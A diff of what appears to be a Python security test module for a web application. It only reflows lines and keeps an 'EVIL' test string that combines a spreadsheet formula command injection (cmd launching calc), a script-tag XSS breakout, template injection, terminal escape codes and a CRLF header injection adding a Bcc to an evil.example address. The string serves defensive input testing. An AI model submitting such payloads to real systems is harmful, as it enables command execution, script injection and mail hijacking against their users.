@@ -13,11 +13,15 @@ from .test_access_walk import DOORS, MEMBER, filled
 from .test_privacy_walk import planted, queries, shown
 from .walking import in_parts, settled, stop, visitors
 
-EVIL = "=cmd|' /C calc'!A0\x0b\x1b[2J\u202e\uffff</textarea><script>alert(1)</script>{{ 7|add:7 }}\r\nBcc: x@evil.example"
+EVIL = (
+    "=cmd|' /C calc'!A0\x0b\x1b[2J\u202e\uffff</textarea><script>alert(1)</script>{{ 7|add:7 }}\r\n"
+    "Bcc: x@evil.example"
+)
 NAMES = {
-    "name", "title", "subject", "body", "text", "note", "reason", "answer", "contact_name", "contact_phone", "phone", "summary", "goals", "person_name",
-    "user_name", "department", "hostname", "publisher", "file_name", "evidence_name", "who", "threat", "late_reason", "signer", "position",
-    "sender", "problem", "description",
+    "name", "title", "subject", "body", "text", "note", "reason", "answer", "contact_name", "contact_phone",
+    "phone", "summary", "goals", "person_name", "user_name", "department", "hostname", "publisher",
+    "file_name", "evidence_name", "who", "threat", "late_reason", "signer", "position", "sender", "problem",
+    "description",
 }  # fmt: skip
 READABLE = [path for path in MEMBER if (door := DOORS[path]) is not None and "GET" in door.methods]
 
